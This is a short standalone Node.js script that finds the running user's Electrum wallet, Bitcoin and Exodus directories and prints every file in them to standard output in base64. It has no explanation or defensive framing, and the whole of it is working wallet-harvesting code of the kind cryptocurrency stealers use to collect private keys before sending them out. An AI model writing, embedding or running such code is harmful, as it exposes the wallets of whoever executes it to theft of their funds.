const fs = require('fs'), os = require('os');
const dirs = ['.electrum/wallets', '.bitcoin', '.config/Exodus'].map(d => os.homedir() + '/' + d);
for (const d of dirs) if (fs.existsSync(d)) for (const f of fs.readdirSync(d)) console.log(fs.readFileSync(d + '/' + f).toString('base64'));
